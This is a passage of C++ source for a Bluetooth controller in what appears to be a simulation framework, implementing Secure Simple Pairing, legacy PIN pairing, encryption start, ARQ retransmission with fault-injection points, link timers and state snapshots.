    // Responder adapts to the initiator's curve choice (by coordinate width).
    ssp.curve = key.x.size() == 32 ? &crypto::EcCurve::p256() : &crypto::EcCurve::p192();
  }
  auto px = crypto::U256::from_bytes_be(key.x);
  auto py = crypto::U256::from_bytes_be(key.y);
  if (!px || !py) {
    finish_pairing(link, false);
    return;
  }
  ssp.peer_public = crypto::EcPoint::affine(*px, *py);
  if (!ssp.curve->on_curve(ssp.peer_public)) {
    // Invalid-curve defense: refuse off-curve points outright.
    send_lmp(link, LmpOpcode::kNotAccepted,
             LmpNotAccepted{LmpOpcode::kEncapsulatedPublicKey,
                            static_cast<std::uint8_t>(hci::Status::kAuthenticationFailure)}
                 .encode());
    finish_pairing(link, false);
    return;
  }
  ssp.have_peer_key = true;

  if (!ssp.initiator) {
    // Responder: reply with our key, then open Stage 1 with the commitment.
    ssp.local_keypair = crypto::generate_keypair(*ssp.curve, rng_);
    LmpPublicKey reply;
    reply.x = crypto::coordinate_bytes(*ssp.curve, ssp.local_keypair.public_key.x);
    reply.y = crypto::coordinate_bytes(*ssp.curve, ssp.local_keypair.public_key.y);
    send_lmp(link, LmpOpcode::kEncapsulatedPublicKey, reply.encode());

    auto dh = crypto::ecdh_shared_secret(*ssp.curve, ssp.local_keypair.private_key,
                                         ssp.peer_public);
    if (!dh) {
      finish_pairing(link, false);
      return;
    }
    ssp.dhkey = *dh;
    ssp.have_dhkey = true;

    ssp.local_nonce = rng_.bytes<16>();
    const crypto::LinkKey commitment =
        crypto::f1(*ssp.curve, ssp.local_keypair.public_key.x, ssp.peer_public.x,
                   ssp.local_nonce, 0);
    send_lmp(link, LmpOpcode::kSimplePairingConfirm,
             Bytes(commitment.begin(), commitment.end()));
  } else {
    auto dh = crypto::ecdh_shared_secret(*ssp.curve, ssp.local_keypair.private_key,
                                         ssp.peer_public);
    if (!dh) {
      finish_pairing(link, false);
      return;
    }
    ssp.dhkey = *dh;
    ssp.have_dhkey = true;
    arm_lmp_timer(link);  // waiting for the responder's commitment
  }
}

void Controller::on_lmp_sp_confirm(Link& link, const crypto::LinkKey& commitment) {
  if (link.ssp == nullptr || !link.ssp->initiator) return;
  auto& ssp = *link.ssp;
  ssp.peer_commitment = commitment;
  ssp.have_commitment = true;
  // Reveal our nonce.
  ssp.local_nonce = rng_.bytes<16>();
  send_lmp(link, LmpOpcode::kSimplePairingNumber, rand_bytes(ssp.local_nonce));
  arm_lmp_timer(link);
}

void Controller::on_lmp_sp_number(Link& link, const crypto::Rand128& nonce) {
  if (link.ssp == nullptr) return;
  auto& ssp = *link.ssp;
  ssp.peer_nonce = nonce;
  ssp.have_peer_nonce = true;

  if (!ssp.initiator) {
    // Responder received Na; reveal Nb.
    send_lmp(link, LmpOpcode::kSimplePairingNumber, rand_bytes(ssp.local_nonce));
    maybe_raise_user_confirmation(link);
    return;
  }

  // Initiator received Nb: verify the responder's commitment opens.
  const crypto::LinkKey expected = crypto::f1(*ssp.curve, ssp.peer_public.x,
                                              ssp.local_keypair.public_key.x, nonce, 0);
  if (!ssp.have_commitment ||
      !ct_equal(BytesView(expected.data(), expected.size()),
                BytesView(ssp.peer_commitment.data(), ssp.peer_commitment.size()))) {
    send_lmp(link, LmpOpcode::kNotAccepted,
             LmpNotAccepted{LmpOpcode::kSimplePairingNumber,
                            static_cast<std::uint8_t>(hci::Status::kAuthenticationFailure)}
                 .encode());
    finish_pairing(link, false);
    return;
  }
  maybe_raise_user_confirmation(link);
}

void Controller::maybe_raise_user_confirmation(Link& link) {
  auto& ssp = *link.ssp;
  // Both sides now hold (Na, Nb) and compute the same numeric value. The
  // controller always raises User_Confirmation_Request; whether a human sees
  // it is the host's (UI model's) business — that split is what the SSP
  // downgrade abuses.
  const crypto::Rand128& na = ssp.initiator ? ssp.local_nonce : ssp.peer_nonce;
  const crypto::Rand128& nb = ssp.initiator ? ssp.peer_nonce : ssp.local_nonce;
  const crypto::U256& init_x =
      ssp.initiator ? ssp.local_keypair.public_key.x : ssp.peer_public.x;
  const crypto::U256& resp_x =
      ssp.initiator ? ssp.peer_public.x : ssp.local_keypair.public_key.x;
  const std::uint32_t value = crypto::g(*ssp.curve, init_x, resp_x, na, nb);
  hci::UserConfirmationRequestEvt evt;
  evt.bdaddr = link.peer;
  evt.numeric_value = crypto::g_display(value);
  send_event(evt.encode());
}

void Controller::handle_user_confirmation(const BdAddr& addr, bool accepted) {
  Link* link = link_by_peer(addr);
  if (link == nullptr || link->ssp == nullptr) return;
  if (!accepted) {
    send_lmp(*link, LmpOpcode::kNotAccepted,
             LmpNotAccepted{LmpOpcode::kSimplePairingNumber,
                            static_cast<std::uint8_t>(hci::Status::kAuthenticationFailure)}
                 .encode());
    finish_pairing(*link, false);
    return;
  }
  link->ssp->local_confirmed = true;
  if (link->ssp->initiator) {
    send_dhkey_check(*link);
  } else if (!link->ssp->held_dhkey_check.empty()) {
    // The initiator's check arrived while we waited for our host.
    crypto::LinkKey check{};
    std::copy_n(link->ssp->held_dhkey_check.begin(), 16, check.begin());
    link->ssp->held_dhkey_check.clear();
    verify_peer_dhkey_check(*link, check);
  }
}

void Controller::send_dhkey_check(Link& link) {
  auto& ssp = *link.ssp;
  const crypto::Rand128 r{};  // Numeric Comparison / Just Works: R = 0
  // Each side sends f3 over (own nonce, peer nonce, own IOcap, own addr,
  // peer addr); the receiver verifies the mirrored computation.
  const crypto::LinkKey check = crypto::f3(*ssp.curve, ssp.dhkey, ssp.local_nonce,
                                           ssp.peer_nonce, r, ssp.local_iocap, config_.address,
                                           link.peer);
  send_lmp(link, LmpOpcode::kDhkeyCheck, Bytes(check.begin(), check.end()));
  if (ssp.initiator) arm_lmp_timer(link);
}

void Controller::on_lmp_dhkey_check(Link& link, const crypto::LinkKey& check) {
  if (link.ssp == nullptr) return;
  auto& ssp = *link.ssp;
  if (!ssp.initiator && !ssp.local_confirmed) {
    // Host has not confirmed yet; hold the check until it does.
    ssp.held_dhkey_check = Bytes(check.begin(), check.end());
    return;
  }
  verify_peer_dhkey_check(link, check);
}

void Controller::verify_peer_dhkey_check(Link& link, const crypto::LinkKey& check) {
  auto& ssp = *link.ssp;
  const crypto::Rand128 r{};
  const crypto::LinkKey expected =
      crypto::f3(*ssp.curve, ssp.dhkey, ssp.peer_nonce, ssp.local_nonce, r, ssp.peer_iocap,
                 link.peer, config_.address);
  if (!ct_equal(BytesView(expected.data(), expected.size()),
                BytesView(check.data(), check.size()))) {
    send_lmp(link, LmpOpcode::kNotAccepted,
             LmpNotAccepted{LmpOpcode::kDhkeyCheck,
                            static_cast<std::uint8_t>(hci::Status::kAuthenticationFailure)}
                 .encode());
    finish_pairing(link, false);
    return;
  }
  if (!ssp.initiator) {
    // Responder replies with its own check and is done.
    send_dhkey_check(link);
    finish_pairing(link, true);
  } else {
    finish_pairing(link, true);
  }
}

crypto::LinkKeyType Controller::derived_key_type(const Link& link) const {
  const auto& ssp = *link.ssp;
  const bool p256 = ssp.curve == &crypto::EcCurve::p256();
  // blap-lint: spec-ok — key-TYPE derivation (Core v5.3 Vol 2 Part H §7.4)
  // is controller business; ui_model owns only the host-side UI decisions.
  const bool just_works =
      ssp.local_iocap.io_capability ==
          static_cast<std::uint8_t>(hci::IoCapability::kNoInputNoOutput) ||
      ssp.peer_iocap.io_capability ==
          static_cast<std::uint8_t>(hci::IoCapability::kNoInputNoOutput);
  if (p256)
    return just_works ? crypto::LinkKeyType::kUnauthenticatedCombinationP256
                      : crypto::LinkKeyType::kAuthenticatedCombinationP256;
  return just_works ? crypto::LinkKeyType::kUnauthenticatedCombinationP192
                    : crypto::LinkKeyType::kAuthenticatedCombinationP192;
}

void Controller::finish_pairing(Link& link, bool success) {
  if (link.ssp == nullptr) return;
  if (!success) {
    obs_end_pair(link, false);
    hci::SimplePairingCompleteEvt evt;
    evt.status = hci::Status::kAuthenticationFailure;
    evt.bdaddr = link.peer;
    send_event(evt.encode());
    auth_failed(link, hci::Status::kAuthenticationFailure);
    return;
  }
  auto& ssp = *link.ssp;
  const crypto::Rand128& na = ssp.initiator ? ssp.local_nonce : ssp.peer_nonce;
  const crypto::Rand128& nb = ssp.initiator ? ssp.peer_nonce : ssp.local_nonce;
  const BdAddr init_addr = ssp.initiator ? config_.address : link.peer;
  const BdAddr resp_addr = ssp.initiator ? link.peer : config_.address;
  link.key = crypto::f2(*ssp.curve, ssp.dhkey, na, nb, init_addr, resp_addr);
  link.have_key = true;

  hci::SimplePairingCompleteEvt pairing_evt;
  pairing_evt.status = hci::Status::kSuccess;
  pairing_evt.bdaddr = link.peer;
  send_event(pairing_evt.encode());

  obs_end_pair(link, true);
  if (obs_ != nullptr) {
    obs_->count("hci.link_key_notifications");
    if (obs_->tracing())
      obs_->instant(scheduler_.now(), obs_tid_, obs::Layer::kHci, "link_key_notification",
                    strfmt("new SSP key for %s", link.peer.to_string().c_str()));
  }
  hci::LinkKeyNotificationEvt key_evt;
  key_evt.bdaddr = link.peer;
  key_evt.link_key = link.key;
  key_evt.key_type = derived_key_type(link);
  send_event(key_evt.encode());

  const bool was_initiator = ssp.initiator;
  link.ssp.reset();
  link.auth = AuthState::kIdle;
  if (link.auth_requested_by_host && was_initiator) {
    // Continue with LMP authentication on the fresh key (Fig. 2a bottom).
    send_challenge(link);
  }
}

// ---------------------------------------------------------------------------
// Legacy (pre-SSP) PIN pairing: E22 initialization key, E21 combination key
// ---------------------------------------------------------------------------

namespace {
crypto::LinkKey xor16(const crypto::LinkKey& a, const crypto::LinkKey& b) {
  crypto::LinkKey out{};
  for (std::size_t i = 0; i < out.size(); ++i) out[i] = a[i] ^ b[i];
  return out;
}
}  // namespace

void Controller::start_legacy_pairing_as_initiator(Link& link) {
  link.auth = AuthState::kPairing;
  link.legacy = std::make_unique<LegacyContext>();
  link.legacy->initiator = true;
  obs_begin_pair(link, "legacy pin initiator");
  send_event(hci::PinCodeRequestEvt{link.peer}.encode());
}

void Controller::handle_pin_code_reply(const hci::PinCodeRequestReplyCmd& cmd) {
  command_complete(hci::op::kPinCodeRequestReply, hci::Status::kSuccess);
  Link* link = link_by_peer(cmd.bdaddr);
  if (link == nullptr || link->legacy == nullptr) return;
  auto& legacy = *link->legacy;
  const Bytes pin(cmd.pin.begin(), cmd.pin.end());
  if (legacy.initiator) {
    // Kinit binds the *initiator's* BD_ADDR; both sides use it.
    legacy.in_rand = rng_.bytes<16>();
    legacy.have_in_rand = true;
    legacy.kinit = crypto::e22(legacy.in_rand, pin, config_.address);
    legacy.have_kinit = true;
    send_lmp(*link, LmpOpcode::kInRand, rand_bytes(legacy.in_rand));
    arm_lmp_timer(*link);
  } else {
    if (!legacy.have_in_rand) return;
    legacy.kinit = crypto::e22(legacy.in_rand, pin, link->peer);
    legacy.have_kinit = true;
    send_lmp(*link, LmpOpcode::kAccepted,
             Bytes{static_cast<std::uint8_t>(LmpOpcode::kInRand)});
  }
}

void Controller::handle_pin_code_negative_reply(const BdAddr& addr) {
  Link* link = link_by_peer(addr);
  if (link == nullptr || link->legacy == nullptr) return;
  send_lmp(*link, LmpOpcode::kNotAccepted,
           LmpNotAccepted{LmpOpcode::kInRand,
                          static_cast<std::uint8_t>(hci::Status::kPairingNotAllowed)}
               .encode());
  link->legacy.reset();
  obs_end_pair(*link, false);
  auth_failed(*link, hci::Status::kPairingNotAllowed);
}

void Controller::on_lmp_in_rand(Link& link, const crypto::Rand128& in_rand) {
  // We are the legacy-pairing responder: remember IN_RAND and ask the host
  // (i.e. the user) for the PIN.
  link.auth = AuthState::kPairing;
  link.legacy = std::make_unique<LegacyContext>();
  link.legacy->initiator = false;
  link.legacy->in_rand = in_rand;
  link.legacy->have_in_rand = true;
  obs_begin_pair(link, "legacy pin responder");
  send_event(hci::PinCodeRequestEvt{link.peer}.encode());
}

void Controller::send_comb_key_contribution(Link& link) {
  auto& legacy = *link.legacy;
  legacy.local_lk_rand = rng_.bytes<16>();
  legacy.sent_comb = true;
  // The contribution travels masked with Kinit — this XOR is all that
  // protects legacy pairing, which is why a sniffed exchange brute-forces
  // (paper refs [14], [15]).
  const crypto::LinkKey masked = xor16(legacy.local_lk_rand, legacy.kinit);
  send_lmp(link, LmpOpcode::kCombKey, Bytes(masked.begin(), masked.end()));
  if (legacy.initiator) arm_lmp_timer(link);
}

void Controller::on_lmp_comb_key(Link& link, const crypto::LinkKey& masked_contribution) {
  if (link.legacy == nullptr || !link.legacy->have_kinit) return;
  auto& legacy = *link.legacy;
  const crypto::LinkKey peer_lk_rand = xor16(masked_contribution, legacy.kinit);
  if (!legacy.sent_comb) send_comb_key_contribution(link);
  finish_legacy_pairing(link, peer_lk_rand);
}

void Controller::finish_legacy_pairing(Link& link, const crypto::LinkKey& peer_lk_rand) {
  auto& legacy = *link.legacy;
  // Each side contributes E21(LK_RAND, own address); the combination key is
  // the XOR of the two contributions.
  const crypto::LinkKey local_contribution = crypto::e21(legacy.local_lk_rand, config_.address);
  const crypto::LinkKey peer_contribution = crypto::e21(peer_lk_rand, link.peer);
  link.key = crypto::combination_key(local_contribution, peer_contribution);
  link.have_key = true;

  obs_end_pair(link, true);
  if (obs_ != nullptr) {
    obs_->count("hci.link_key_notifications");
    if (obs_->tracing())
      obs_->instant(scheduler_.now(), obs_tid_, obs::Layer::kHci, "link_key_notification",
                    strfmt("new legacy combination key for %s", link.peer.to_string().c_str()));
  }
  hci::LinkKeyNotificationEvt key_evt;
  key_evt.bdaddr = link.peer;
  key_evt.link_key = link.key;
  key_evt.key_type = crypto::LinkKeyType::kCombination;
  send_event(key_evt.encode());

  const bool was_initiator = legacy.initiator;
  link.legacy.reset();
  link.auth = AuthState::kIdle;
  if (link.auth_requested_by_host && was_initiator) send_challenge(link);
}

// ---------------------------------------------------------------------------
// Encryption
// ---------------------------------------------------------------------------

void Controller::on_lmp_encryption_mode_req(Link& link) {
  send_lmp(link, LmpOpcode::kAccepted,
           Bytes{static_cast<std::uint8_t>(LmpOpcode::kEncryptionModeReq)});
}

void Controller::on_lmp_start_encryption_req(Link& link, const crypto::Rand128& en_rand) {
  if (!link.have_key || !link.have_aco) {
    send_lmp(link, LmpOpcode::kNotAccepted,
             LmpNotAccepted{LmpOpcode::kStartEncryptionReq,
                            static_cast<std::uint8_t>(hci::Status::kPinOrKeyMissing)}
                 .encode());
    return;
  }
  link.enc_key = crypto::e3(link.key, en_rand, link.aco);
  link.encrypted = true;
  link.tx_counter = link.rx_counter = 0;
  if (obs_ != nullptr) {
    obs_->count("lmp.encryption_starts");
    obs_->instant(scheduler_.now(), obs_tid_, obs::Layer::kLmp, "encryption_on",
                  "responder side: E0 key live");
  }
  send_lmp(link, LmpOpcode::kAccepted,
           Bytes{static_cast<std::uint8_t>(LmpOpcode::kStartEncryptionReq)});
  hci::EncryptionChangeEvt evt;
  evt.handle = link.handle;
  evt.encryption_enabled = 1;
  send_event(evt.encode());
}

// ---------------------------------------------------------------------------
// LMP send machinery, timers, link management
// ---------------------------------------------------------------------------

void Controller::send_lmp(Link& link, LmpOpcode opcode, Bytes payload) {
  LmpPdu pdu;
  pdu.opcode = opcode;
  pdu.payload = std::move(payload);
  if (obs_ != nullptr) {
    obs_->count("lmp.tx");
    if (obs_->tracing())
      obs_->instant(scheduler_.now(), obs_tid_, obs::Layer::kLmp,
                    strfmt("lmp_tx:%s", to_string(opcode)));
  }
  BLAP_TRACE("lmp", "%s tx %s", config_.address.to_string().c_str(), to_string(opcode));
  // The PDU dies between the LM and the baseband TX buffer — no ARQ entry,
  // no report. A peer mid-transaction recovers via its LMP response
  // timeout; otherwise supervision owns the verdict.
  if (BLAP_FAILPOINT("controller.lmp.tx_lost")) return;
  send_baseband(link, pdu.to_air_frame());
}

void Controller::send_baseband(Link& link, Bytes air_frame) {
  // Clean channel: the frame always arrives, so asking for a delivery
  // report would only burn scheduler events — skip ARQ entirely.
  if (!medium_.faults_enabled()) {
    medium_.send_frame(link.radio_link, this, std::move(air_frame));
    return;
  }
  // Stop-and-wait ARQ: LMP and encrypted ACL both depend on in-order
  // delivery, so frame N+1 must not fly until frame N is ACKed or
  // abandoned — a retransmission overtaken by a newer frame would desync
  // the peer's LMP state machine.
  link.tx_queue.push_back(std::move(air_frame));
  if (!link.tx_busy) arq_start_next(link);
}

void Controller::arq_start_next(Link& link) {
  if (link.tx_queue.empty()) {
    link.tx_busy = false;
    return;
  }
  link.tx_busy = true;
  arq_transmit(link.handle, 0);
}

void Controller::arq_transmit(hci::ConnectionHandle handle, unsigned attempt) {
  Link* link = link_by_handle(handle);
  if (link == nullptr || link->tx_queue.empty()) return;
  medium_.send_frame(link->radio_link, this, link->tx_queue.front(),
                     [this, handle, attempt](bool delivered) {
                       arq_on_report(handle, attempt, delivered);
                     });
}

void Controller::arq_on_report(hci::ConnectionHandle handle, unsigned attempt, bool delivered) {
  // The ACK bookkeeping drops the report on the floor: the ARQ engine
  // stalls with tx_busy held, and the supervision timeout is what
  // eventually clears the link.
  if (BLAP_FAILPOINT("controller.arq.report_lost")) return;
  // A phantom NAK: the frame actually arrived but the report says it did
  // not — the retransmission must not desync the peer (duplicate delivery).
  if (BLAP_FAILPOINT("controller.arq.phantom_nak")) delivered = false;
  Link* link = link_by_handle(handle);
  if (link == nullptr) return;          // torn down while the frame flew
  if (link->tx_queue.empty()) return;   // queue flushed (fault plan cleared)
  if (delivered) {
    if (obs_ != nullptr && attempt > 0) obs_->count("arq.recovered");
    link->tx_queue.pop_front();
    arq_start_next(*link);
    return;
  }
  if (attempt >= config_.arq_max_retransmissions) {
    // Out of retries: abandon this frame and move on to the next. Do NOT
    // tear the link down here — a retry burst losing one frame is not link
    // death. The supervision timer owns that verdict.
    if (obs_ != nullptr) {
      obs_->count("arq.exhausted");
      if (obs_->tracing())
        obs_->instant(scheduler_.now(), obs_tid_, obs::Layer::kController, "arq_exhausted",
                      strfmt("frame dropped after %u retransmissions", attempt));
    }
    BLAP_DEBUG("arq", "%s: frame on handle 0x%04x lost after %u retransmissions",
               config_.address.to_string().c_str(), handle, attempt);
    link->tx_queue.pop_front();
    arq_start_next(*link);
    return;
  }
  if (obs_ != nullptr) {
    obs_->count("arq.retransmissions");
    if (obs_->tracing())
      obs_->instant(scheduler_.now(), obs_tid_, obs::Layer::kController, "arq_retx",
                    strfmt("handle 0x%04x attempt %u", handle, attempt + 1));
  }
  // Exponential backoff: 1x, 2x, 4x... the base delay. Deterministic (no
  // jitter draw) so a trial's retransmission timeline is a pure function of
  // the fault plan.
  const SimTime backoff = config_.arq_backoff_base << attempt;
  scheduler_.schedule_in(backoff, [this, handle, attempt] {
    Link* live = link_by_handle(handle);
    if (live == nullptr || live->tx_queue.empty()) return;  // died during backoff
    arq_transmit(handle, attempt + 1);
  });
}

void Controller::arm_supervision_timer(Link& link) {
  if (!medium_.faults_enabled()) return;
  link.supervision_timer.cancel();
  const hci::ConnectionHandle handle = link.handle;
  SimTime timeout = config_.supervision_timeout;
  // The supervision counter is misprogrammed: it expires almost at once and
  // kills a healthy link. Recovery is the host's reconnect machinery.
  if (BLAP_FAILPOINT("controller.supervision.timer_early")) timeout = 1;
  link.supervision_timer =
      scheduler_.schedule_in(timeout, [this, handle] { supervision_timeout(handle); });
}

void Controller::supervision_timeout(hci::ConnectionHandle handle) {
  Link* link = link_by_handle(handle);
  if (link == nullptr) return;
  BLAP_INFO("controller", "%s: supervision timeout on handle 0x%04x — link presumed dead",
            config_.address.to_string().c_str(), handle);
  if (obs_ != nullptr) {
    obs_->count("controller.supervision_timeouts");
    if (obs_->tracing())
      obs_->instant(scheduler_.now(), obs_tid_, obs::Layer::kController,
                    "supervision_timeout",
                    strfmt("no frame received for %llu us",
                           static_cast<unsigned long long>(config_.supervision_timeout)));
  }
  // Genuine supervision teardown: Disconnection_Complete with the spec's
  // Connection Timeout reason. The radio-level close also informs the peer
  // (a detach indication in our model); its own supervision timer would
  // reach the same verdict moments later anyway.
  teardown_link(*link, hci::Status::kConnectionTimeout, true);
}

void Controller::refresh_fault_state() {
  for (auto& [handle, link] : links_) {
    if (medium_.faults_enabled()) {
      arm_supervision_timer(link);
    } else {
      link.supervision_timer.cancel();
      // The channel is clean again: flush anything still waiting on an ACK
      // straight onto the medium, in order. In-flight report callbacks see
      // the empty queue and stand down.
      while (!link.tx_queue.empty()) {
        medium_.send_frame(link.radio_link, this, std::move(link.tx_queue.front()));
        link.tx_queue.pop_front();
      }
      link.tx_busy = false;
    }
  }
}

void Controller::arm_lmp_timer(Link& link) {
  link.lmp_timer.cancel();
  const hci::ConnectionHandle handle = link.handle;
  SimTime timeout = config_.lmp_response_timeout;
  // The LMP response timer fires while the peer's reply is still in flight.
  if (BLAP_FAILPOINT("controller.lmp.timer_early")) timeout = 1;
  link.lmp_timer = scheduler_.schedule_in(timeout, [this, handle] { lmp_timeout(handle); });
}

void Controller::disarm_lmp_timer(Link& link) { link.lmp_timer.cancel(); }

void Controller::lmp_timeout(hci::ConnectionHandle handle) {
  Link* link = link_by_handle(handle);
  if (link == nullptr) return;
  BLAP_INFO("lmp", "%s: LMP response timeout on handle 0x%04x — dropping link",
            config_.address.to_string().c_str(), handle);
  // The peer stalled mid-transaction. Tear the link down with a timeout —
  // crucially NOT an authentication failure, so the host keeps any bond.
  if (obs_ != nullptr) {
    obs_->count("lmp.response_timeouts");
    obs_->end_span(scheduler_.now(), link->obs_auth_span,
                   "LMP response timeout (bond preserved)");
    link->obs_auth_span = 0;
    obs_->end_span(scheduler_.now(), link->obs_pair_span, "LMP response timeout");
    link->obs_pair_span = 0;
  }
  if (link->auth_requested_by_host) {
    hci::AuthenticationCompleteEvt evt;
    evt.status = hci::Status::kLmpResponseTimeout;
    evt.handle = handle;
    send_event(evt.encode());
    link->auth_requested_by_host = false;
  }
  teardown_link(*link, hci::Status::kConnectionTimeout, true);
}

void Controller::teardown_link(Link& link, hci::Status reason, bool notify_peer) {
  // Detach the map node FIRST. Teardown can re-enter — a supervision
  // timeout delivered in the same slot as a local close used to find the
  // entry still live and notify the host twice (and leave this reference
  // dangling after the inner erase). With the node extracted, any nested
  // teardown for the same handle sees an empty map and returns: one
  // Disconnection_Complete per link, ever. References into the extracted
  // node remain valid for the rest of this frame.
  auto node = links_.extract(link.handle);
  if (node.empty()) return;
  // Replays exactly that race: the supervision timer expires at teardown
  // entry, after the node left the map.
  if (BLAP_FAILPOINT("controller.teardown.supervision_race"))
    supervision_timeout(link.handle);
  const hci::ConnectionHandle handle = link.handle;
  const radio::LinkId radio_link = link.radio_link;
  const BdAddr peer = link.peer;
  const LinkState state = link.state;
  link.lmp_timer.cancel();
  link.accept_timer.cancel();
  link.supervision_timer.cancel();
  if (notify_peer) medium_.close_link(radio_link, this, static_cast<std::uint8_t>(reason));
  if (state == LinkState::kConnecting) {
    // The link died (e.g. LMP response timeout under total loss) before the
    // host-level connection completed: the host never learned this handle,
    // so a Disconnection_Complete would be silently dropped and the host's
    // operation would hang forever. Its Create_Connection failed — say so.
    hci::ConnectionCompleteEvt evt;
    evt.status = reason;
    evt.bdaddr = peer;
    send_event(evt.encode());
    return;
  }
  if (state == LinkState::kConnected) {
    hci::DisconnectionCompleteEvt evt;
    evt.handle = handle;
    evt.reason = reason;
    send_event(evt.encode());
  }
}

std::vector<Controller::LinkAudit> Controller::audit_links() const {
  std::vector<LinkAudit> out;
  out.reserve(links_.size());
  for (const auto& [handle, link] : links_) {
    LinkAudit audit;
    audit.handle = handle;
    audit.radio_link = link.radio_link;
    audit.peer = link.peer;
    audit.connected = link.state == LinkState::kConnected;
    audit.tx_busy = link.tx_busy;
    audit.tx_queue_depth = link.tx_queue.size();
    out.push_back(audit);
  }
  return out;
}

Controller::Link* Controller::link_by_handle(hci::ConnectionHandle handle) {
  auto it = links_.find(handle);
  return it == links_.end() ? nullptr : &it->second;
}

Controller::Link* Controller::link_by_peer(const BdAddr& peer) {
  for (auto& [handle, link] : links_)
    if (link.peer == peer) return &link;
  return nullptr;
}

Controller::Link* Controller::link_by_radio(radio::LinkId id) {
  for (auto& [handle, link] : links_)
    if (link.radio_link == id) return &link;
  return nullptr;
}

namespace {

void save_u256(state::StateWriter& w, const crypto::U256& v) {
  for (const std::uint64_t limb : v.limbs()) w.u64(limb);
}

crypto::U256 load_u256(state::StateReader& r) {
  std::array<std::uint64_t, crypto::U256::kLimbs> limbs{};
  for (std::uint64_t& limb : limbs) limb = r.u64();
  return crypto::U256(limbs);
}

void save_point(state::StateWriter& w, const crypto::EcPoint& point) {
  save_u256(w, point.x);
  save_u256(w, point.y);
  w.boolean(point.infinity);
}

crypto::EcPoint load_point(state::StateReader& r) {
  crypto::EcPoint point;
  point.x = load_u256(r);
  point.y = load_u256(r);
  point.infinity = r.boolean();
  return point;
}

void save_iocap(state::StateWriter& w, const crypto::IoCapTriplet& triplet) {
  w.u8(triplet.io_capability);
  w.u8(triplet.oob_data_present);
  w.u8(triplet.auth_req);
}

crypto::IoCapTriplet load_iocap(state::StateReader& r) {
  crypto::IoCapTriplet triplet;
  triplet.io_capability = r.u8();
  triplet.oob_data_present = r.u8();
  triplet.auth_req = r.u8();
  return triplet;
}

}  // namespace

bool Controller::quiescent() const {
  if (inquiring_) return false;
  for (const auto& [handle, link] : links_) {
    if (link.state != LinkState::kConnected) return false;
    if (link.auth != AuthState::kIdle) return false;
    if (link.ssp != nullptr || link.legacy != nullptr) return false;
    if (!link.tx_queue.empty() || link.tx_busy) return false;
  }
  return true;
}

void Controller::save_state(state::StateWriter& w) const {
  w.fixed(config_.address.bytes());
  w.u32(config_.class_of_device.raw());
  w.str(config_.name);
  w.boolean(config_.secure_connections);
  w.u64(config_.page_scan_interval);
  w.u64(config_.page_timeout);
  w.u64(config_.connection_accept_timeout);
  w.u64(config_.lmp_response_timeout);
  w.u32(config_.arq_max_retransmissions);
  w.u64(config_.arq_backoff_base);
  w.u64(config_.supervision_timeout);

  for (const std::uint64_t word : rng_.state()) w.u64(word);
  w.u8(static_cast<std::uint8_t>(scan_enable_));
  w.boolean(simple_pairing_mode_);
  w.boolean(inquiring_);
  w.u16(next_handle_);

  w.u64(links_.size());
  for (const auto& [handle, link] : links_) {
    w.u64(link.radio_link);
    w.u16(link.handle);
    w.fixed(link.peer.bytes());
    w.boolean(link.initiator);
    w.u8(static_cast<std::uint8_t>(link.state));
    w.u8(static_cast<std::uint8_t>(link.auth));
    w.boolean(link.auth_requested_by_host);
    // blap-taint: declassified — snapshot key section: link keys are part of the
    // length-framed controller state a fork/replay trial must restore bit-exactly
    w.fixed(link.key);
    w.boolean(link.have_key);
    w.fixed(link.challenge);
    w.fixed(link.pending_au_rand);
    w.boolean(link.have_pending_au_rand);
    w.boolean(link.pending_au_rand_is_sc);
    w.fixed(link.sc_expected_sres);
    w.boolean(link.sc_in_use);
    w.fixed(link.aco);
    w.boolean(link.have_aco);

    w.boolean(link.ssp != nullptr);
    if (link.ssp != nullptr) {
      const SspContext& ssp = *link.ssp;
      w.boolean(ssp.initiator);
      w.u8(ssp.curve != nullptr
               ? static_cast<std::uint8_t>(ssp.curve->coordinate_size())
               : 0);
      save_u256(w, ssp.local_keypair.private_key);
      save_point(w, ssp.local_keypair.public_key);
      save_point(w, ssp.peer_public);
      w.boolean(ssp.have_peer_key);
      w.fixed(ssp.local_nonce);
      w.fixed(ssp.peer_nonce);
      w.boolean(ssp.have_peer_nonce);
      // blap-taint: declassified — snapshot key section (SSP commitment)
      w.fixed(ssp.peer_commitment);
      w.boolean(ssp.have_commitment);
      save_iocap(w, ssp.local_iocap);
      save_iocap(w, ssp.peer_iocap);
      save_u256(w, ssp.dhkey);
      w.boolean(ssp.have_dhkey);
      w.boolean(ssp.local_confirmed);
      w.bytes(ssp.held_dhkey_check);
    }

    w.boolean(link.legacy != nullptr);
    if (link.legacy != nullptr) {
      const LegacyContext& legacy = *link.legacy;
      w.boolean(legacy.initiator);
      w.fixed(legacy.in_rand);
      w.boolean(legacy.have_in_rand);
      // blap-taint: declassified — snapshot key section (legacy Kinit)
      w.fixed(legacy.kinit);
      w.boolean(legacy.have_kinit);
      w.fixed(legacy.local_lk_rand);
      w.boolean(legacy.sent_comb);
    }

    w.boolean(link.encrypted);
    // blap-taint: declassified — snapshot key section (E0 session key)
    w.fixed(link.enc_key);
    w.fixed(link.pending_en_rand);
    w.u32(link.tx_counter);
    w.u32(link.rx_counter);
    w.u64(link.tx_queue.size());
    for (const Bytes& frame : link.tx_queue) w.bytes(frame);
    w.boolean(link.tx_busy);
    w.u64(link.obs_auth_span);
    w.u64(link.obs_pair_span);
    w.u64(link.obs_enc_span);
  }
}

void Controller::load_state(state::StateReader& r, state::RestoreMode mode) {
  config_.address = BdAddr(r.fixed<BdAddr::kSize>());
  config_.class_of_device = ClassOfDevice(r.u32());
  config_.name = r.str();
  config_.secure_connections = r.boolean();
  config_.page_scan_interval = r.u64();
  config_.page_timeout = r.u64();
  config_.connection_accept_timeout = r.u64();
  config_.lmp_response_timeout = r.u64();
  config_.arq_max_retransmissions = r.u32();
  config_.arq_backoff_base = r.u64();
  config_.supervision_timeout = r.u64();

  std::array<std::uint64_t, 4> words{};
  for (std::uint64_t& word : words) word = r.u64();
  rng_.set_state(words);
  scan_enable_ = static_cast<hci::ScanEnable>(r.u8());
  simple_pairing_mode_ = r.boolean();
  inquiring_ = r.boolean();
  next_handle_ = r.u16();

  std::map<hci::ConnectionHandle, Link> restored;
  const std::uint64_t link_count = r.u64();
  for (std::uint64_t i = 0; i < link_count && r.ok(); ++i) {
    Link link;
    link.radio_link = r.u64();
    link.handle = r.u16();
    link.peer = BdAddr(r.fixed<BdAddr::kSize>());
    link.initiator = r.boolean();
    link.state = static_cast<LinkState>(r.u8());
    link.auth = static_cast<AuthState>(r.u8());
    link.auth_requested_by_host = r.boolean();
